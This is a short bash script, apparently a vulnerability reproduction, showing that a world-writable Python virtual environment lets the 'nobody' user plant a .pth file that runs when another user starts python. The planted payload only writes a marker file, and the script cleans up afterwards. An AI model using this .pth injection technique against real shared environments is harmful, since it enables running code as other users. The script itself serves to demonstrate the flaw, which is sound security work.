#!/bin/bash
echo "-- modes in the committed venv:"; stat -c '%A %U %n' $W/venv/bin $W/venv/lib/python3*/site-packages
echo "-- another local user (nobody) writes into it:"
cat > /tmp/rt1-nobody.pth.src <<'P'
import os; open("/tmp/rt1-pwned-nobody", "a").write("code planted by nobody ran as uid %d\n" % os.getuid())
P
chmod 644 /tmp/rt1-nobody.pth.src
runuser -u nobody -- cp /tmp/rt1-nobody.pth.src $W/venv/lib/python3.11/site-packages/zz_nobody.pth && echo "planted (as nobody)"
runuser -u pjtestrt1 -- $W/venv/bin/python -c pass; cat /tmp/rt1-pwned-nobody 2>/dev/null; rm -f /tmp/rt1-pwned-nobody /tmp/rt1-nobody.pth.src
echo "-- the chmod events in the trace:"; grep '"chmod' $W/trace.jsonl | cut -c1-400
